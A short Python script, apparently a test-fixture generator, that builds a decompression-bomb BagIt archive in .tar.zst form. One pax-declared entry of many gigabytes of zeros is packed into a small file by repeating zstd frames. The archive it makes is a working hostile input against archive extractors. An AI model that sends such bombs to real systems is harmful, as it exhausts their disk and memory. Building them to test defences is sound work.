#!/usr/bin/env python3
# zst-bomb-entry.py OUT KIND MIB [NAME]: a bag in a .tar.zst whose one
# hostile entry, of KIND (hardlink, dir, fifo, file), carries MIB MiB of
# zeros, its size given in a pax header, as an attacker makes it: a small
# file that declares far more than it is.  The zeros are one zstd frame of
# 8 MiB written again and again (zstd reads concatenated frames as one
# stream), so 640 GiB take about 20 MB and a second to make.  NAME is the
# bag's directory ("b").  Needs the zstd program.
import subprocess
import sys
import tarfile

out, kind, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
name = sys.argv[4] if len(sys.argv) > 4 else 'b'
UNIT = 8 << 20


def zst(data):
    return subprocess.run(['zstd', '-q', '-1', '-c'], input=data,
                          stdout=subprocess.PIPE, check=True).stdout


def info(path, type, size=0):
    i = tarfile.TarInfo(path)
    i.type = type
    i.size = size
    return i


bagit = b'BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n'
head = info(name + '/bagit.txt', tarfile.REGTYPE, len(bagit))
head = head.tobuf(tarfile.PAX_FORMAT) + bagit
head += bytes(-len(head) % 512)
size = mib << 20
types = {'hardlink': tarfile.LNKTYPE, 'dir': tarfile.DIRTYPE,
         'fifo': tarfile.FIFOTYPE, 'file': tarfile.REGTYPE}
hostile = info(name + '/data/' + kind, types[kind], size)
if kind == 'hardlink':
    hostile.linkname = name + '/bagit.txt'
# The size in a pax record whatever it is, as a pax writer may.
hostile.pax_headers = {'size': str(size)}
head += hostile.tobuf(tarfile.PAX_FORMAT)
# The data, then the two zero blocks that end a tar: zeros all.
zeros = size + 1024
with open(out, 'wb') as f:
    f.write(zst(head))
    if zeros >= UNIT:
        frame = zst(bytes(UNIT))
        for _ in range(zeros // UNIT):
            f.write(frame)
    f.write(zst(bytes(zeros % UNIT)))
